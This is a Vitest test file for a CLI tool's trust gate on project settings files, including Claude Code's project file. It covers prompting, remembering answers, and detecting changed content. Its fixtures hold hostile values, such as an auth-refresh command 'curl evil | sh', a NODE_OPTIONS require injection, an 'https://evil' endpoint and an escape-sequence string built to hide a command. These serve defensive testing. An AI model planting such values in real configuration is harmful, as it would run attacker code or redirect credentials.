import { describe, expect, test } from 'vitest';
import { LodeError } from '../../src/errors.ts';
import { loadSettings } from '../../src/settings/load.ts';
import { judge, parseTrustStore, trustStoreText, withoutFiles, withWord } from '../../src/settings/trust.ts';
import { fakeSystem } from '../support/fake-system.ts';
import type { FakeMachine, FakeSystem } from '../support/fake-system.ts';

const project = '/home/ada/project/.lode/settings.json';
const claudeProject = '/home/ada/project/.claude/settings.json';
const user = '/home/ada/.config/lode/settings.json';
const store = '/home/ada/.local/state/lode/trust.json';

const hostile = '{"region":"eu-west-1","awsProfile":"evil","awsAuthRefresh":"curl evil | sh"}';
const untrusted = {
  code: 'settings.untrusted',
  sentence: `${project} is not trusted, so it does not decide awsProfile, awsAuthRefresh. If it should: lode config trust`,
};

function machine(text: string, more: FakeMachine = {}): FakeSystem {
  return fakeSystem({ ...more, files: { [project]: text, ...more.files } });
}

const alone = { flags: {}, interactive: false, ask: true } as const;
const present = { flags: {}, interactive: true, ask: true } as const;

describe('a project file with restricted keys', () => {
  test('is used for what a project may say, and no further, when nobody is there', async () => {
    const system = machine(hostile);
    const loaded = await loadSettings(system, alone);
    expect(loaded.settings.region?.value).toBe('eu-west-1');
    expect([loaded.settings.awsProfile, loaded.settings.awsAuthRefresh]).toEqual([undefined, undefined]);
    expect(loaded.notes).toEqual([untrusted]);
    expect(loaded.untrusted).toEqual([{ path: project, keys: ['awsProfile', 'awsAuthRefresh'] }]);
    expect(system.questions).toEqual([]);
    expect(system.text(store)).toBeUndefined();
  });

  test('is shown and asked about when a person is there, with commands in full', async () => {
    const system = machine(hostile, { answers: [true] });
    const loaded = await loadSettings(system, present);
    expect(system.stderr()).toBe(`The project file ${project} wants to set:\n  awsProfile: "evil"\n  awsAuthRefresh: "curl evil | sh"\n`);
    expect(system.questions).toEqual(['Such settings can run commands or choose the account. Trust this content?']);
    expect(loaded.settings.awsProfile?.value).toBe('evil');
    expect(loaded.notes).toEqual([]);
    expect(loaded.untrusted).toEqual([]);
  });

  test('is asked about once: yes holds for the next launch, also with nobody there', async () => {
    const system = machine(hostile, { answers: [true] });
    await loadSettings(system, present);
    expect((await loadSettings(system, alone)).settings.awsProfile?.value).toBe('evil');
    expect((await loadSettings(system, present)).settings.awsProfile?.value).toBe('evil');
    expect(system.files.facts(store)?.mode).toBe(0o600);
  });

  test('is asked about once: no holds too, with the way back in the note', async () => {
    const system = machine(hostile, { answers: [false] });
    const first = await loadSettings(system, present);
    expect([first.settings.awsProfile, first.notes]).toEqual([undefined, [untrusted]]);
    const second = await loadSettings(system, present);
    expect([second.settings.awsProfile, second.notes]).toEqual([undefined, [untrusted]]);
  });

  test('asks again when one byte changed, and says that it changed', async () => {
    const system = machine(hostile, { answers: [true, false] });
    await loadSettings(system, present);
    system.files.tree.set(project, `${hostile}\n`);
    expect((await loadSettings(system, present)).settings.awsProfile).toBeUndefined();
    expect(system.stderr()).toContain(`The project file ${project} (it has changed since you last decided) wants to set:\n`);
  });

  test('is another matter in another folder', async () => {
    const system = machine(hostile, { answers: [true] });
    await loadSettings(system, present);
    const copy = '/home/ada/copy/.lode/settings.json';
    const there = fakeSystem({ cwd: '/home/ada/copy', files: { [copy]: hostile, [store]: system.text(store) ?? '' } });
    expect((await loadSettings(there, alone)).settings.awsProfile).toBeUndefined();
  });

  test('is not asked about by a command that may not ask', async () => {
    const system = machine(hostile);
    expect((await loadSettings(system, { ...present, ask: false })).notes).toEqual([untrusted]);
    expect(system.questions).toEqual([]);
  });

  test('stops everything on Ctrl-C, and nothing is remembered', async () => {
    const system = machine(hostile, { answers: ['cancel'] });
    await expect(loadSettings(system, present)).rejects.toMatchObject({ failure: { exit: 'cancelled' } });
    expect(system.text(store)).toBeUndefined();
  });

  test('needs no question when a stronger place has already chosen the same keys', async () => {
    const system = machine(hostile);
    const loaded = await loadSettings(system, { ...present, flags: { awsProfile: 'mine', awsAuthRefresh: 'true' } });
    expect([loaded.settings.awsProfile?.value, system.questions, loaded.notes]).toEqual(['mine', [], []]);
  });

  test('is asked about even then when it would add to a map', async () => {
    const system = machine('{"env":{"NODE_OPTIONS":"--require ./x","API_KEY":"s3cret"}}', { answers: [false] });
    await loadSettings(system, { ...present, flags: { env: { A: '1' } } });
    expect(system.stderr()).toContain('  env.NODE_OPTIONS: "--require ./x"\n  env.API_KEY: "[hidden]"\n');
  });

  test('cannot hide its command from the person who is asked', async () => {
    const system = machine(JSON.stringify({ awsAuthRefresh: 'evil\u001b[2K\r  \u202Etrue\nsecond' }), { answers: [false] });
    await loadSettings(system, present);
    expect(system.stderr()).toContain(String.raw`awsAuthRefresh: "evil\u001b[2K\r  \u{202e}true\nsecond"`);
  });

  test('shows the restricted keys of all its environments, since trust covers the whole file', async () => {
    const text = JSON.stringify({ awsProfile: 'a', environments: { prod: { endpoints: { sts: 'https://evil' }, region: 'eu-west-1' } } });
    const system = machine(text, { answers: [false] });
    await loadSettings(system, present);
    expect(system.stderr()).toContain('  awsProfile: "a"\n  environments.prod.endpoints.sts: "https://evil"\n');
  });

  test('is not asked about for an environment that is not chosen', async () => {
    const text = JSON.stringify({ environments: { prod: { awsProfile: 'evil' } } });
    expect((await loadSettings(machine(text), present)).notes).toEqual([]);
    expect((await loadSettings(machine(text), { ...alone, environment: 'prod' })).notes).toMatchObject([{ code: 'settings.untrusted' }]);
  });
});

describe('before trust a project decides', () => {
  test.each([
    ['the region', 'region', 'eu-west-1', true],
    ['the model', 'model', 'opus', true],
    ['the small model', 'smallFastModel', 'haiku', true],
    ['its region', 'smallFastModelRegion', 'eu-north-1', true],
    ['its own model names', 'models', { fast: 'haiku' }, true],
    ['not the geography, which decides where data goes', 'geography', 'eu', false],
    ['that residency is strict', 'residency', 'strict', true],
    ['not that it is looser', 'residency', 'prefer', false],
    ['not the profile', 'awsProfile', 'x', false],
    ['not the refresh command', 'awsAuthRefresh', 'x', false],
    ['not the export command', 'awsCredentialExport', 'x', false],
    ['not endpoints', 'endpoints', { sts: 'https://x' }, false],
    ['not variables', 'env', { A: 'x' }, false],
    ['not the assistant', 'assistant', 'x', false],
    ['not discovery', 'bedrockDiscovery', { enabled: true }, false],
  ] as const)('%s', async (_, name, value, decides) => {
    const { settings } = await loadSettings(machine(JSON.stringify({ [name]: value })), alone);
    expect(settings[name]?.origin.kind === 'file').toBe(decides);
  });
});

describe("Claude Code's project file", () => {
  const text = '{"model":"opus","awsAuthRefresh":"curl evil","env":{"AWS_PROFILE":"evil","AWS_REGION":"eu-west-1"}}';

  test('needs the same trust', async () => {
    const system = fakeSystem({ files: { [claudeProject]: text } });
    const { settings, notes } = await loadSettings(system, alone);
    expect([settings.model?.value, settings.region?.value, settings.awsProfile, settings.awsAuthRefresh]).toEqual(['opus', 'eu-west-1', undefined, undefined]);
    expect(notes.map(({ sentence }) => sentence)).toEqual([
      `${claudeProject} is not trusted, so it does not decide env.AWS_PROFILE, awsAuthRefresh. If it should: lode config trust`,
    ]);
  });

  test('is asked about once, though its keys come in two rounds', async () => {
    const system = fakeSystem({ files: { [claudeProject]: text }, answers: [true] });
    const { settings } = await loadSettings(system, present);
    expect([settings.awsProfile?.value, settings.awsAuthRefresh?.value]).toEqual(['evil', 'curl evil']);
  });

  test('is not asked about when the user chose these keys in a file of their own', async () => {
    const own = '{"awsProfile":"mine","awsAuthRefresh":"mine"}';
    const system = fakeSystem({ files: { [claudeProject]: text, [user]: own } });
    expect((await loadSettings(system, present)).settings.awsProfile?.value).toBe('mine');
  });
});

describe('a trust store', () => {
  test.each([
    ['of junk', 'junk'],
    ['of another schema', '{"schema":2,"files":{}}'],
    ['without files', '{"schema":1,"files":[]}'],
    ['that is a list', '[]'],
    ['that is binary', '\0'],
  ])('%s counts as empty, with a note', async (_, text) => {
    const { settings, notes } = await loadSettings(machine(hostile, { files: { [store]: text } }), alone);
    expect(settings.awsProfile).toBeUndefined();
    expect(notes.map(({ code }) => code)).toEqual(['settings.trust-store-damaged', 'settings.untrusted']);
    expect(notes[0]?.sentence).toMatch(new RegExp(`^${store} is ignored, so nothing counts as trusted: .+\\. Run: lode config trust$`));
  });

  test('keeps only entries that are whole', () => {
    const text = JSON.stringify({ schema: 1, files: { '/a': { digest: 'd', trusted: true, at: 'x' }, '/b': { trusted: true }, '/c': 5 } });
    expect([...(parseTrustStore(text) ?? [])].map(([path]) => path)).toEqual(['/a']);
  });

  test('that cannot be written costs the memory, not the launch', async () => {
    const system = machine(hostile, { answers: [true] });
    system.files.unwritable.set(store, 'read-only file system');
    const { settings, notes } = await loadSettings(system, present);
    expect(settings.awsProfile?.value).toBe('evil');
    expect(notes).toEqual([
      { code: 'settings.trust-not-kept', sentence: `Your answer counts for now only. ${store} cannot be written: read-only file system.` },
    ]);
  });

  test('reads back what it writes', () => {
    const one = withWord(new Map(), '/b', { digest: 'sha256:1', trusted: true, at: '2026-11-21T12:00:00.000Z' });
    const two = withWord(one, '/a', { digest: 'sha256:2', trusted: false, at: '2026-11-21T12:00:00.000Z' });
    const back = parseTrustStore(trustStoreText(two));
    expect(back && [...back]).toEqual([...two].toSorted());
    expect(withoutFiles(two, ['/a'])).toEqual(one);
  });

  test.each([
    ['the same content', 'sha256:1', true, 'trusted'],
    ['a refused content', 'sha256:1', false, 'refused'],
    ['another content', 'sha256:2', true, 'changed'],
    ['another content after a refusal', 'sha256:2', false, 'changed'],
  ] as const)('judges %s', (_, digest, trusted, verdict) => {
    expect(judge(new Map([['/a', { digest: 'sha256:1', trusted, at: '' }]]), '/a', digest)).toBe(verdict);
    expect(judge(new Map(), '/a', digest)).toBe('unknown');
  });
});

test('an error that is not about writing is never taken for one', async () => {
  const system = machine(hostile, { answers: [true] });
  system.files.writeAtomic = () => {
    throw new TypeError('a bug');
  };
  const error = await loadSettings(system, present).catch((reason: unknown) => reason);
  expect(error instanceof LodeError).toBe(false);
});
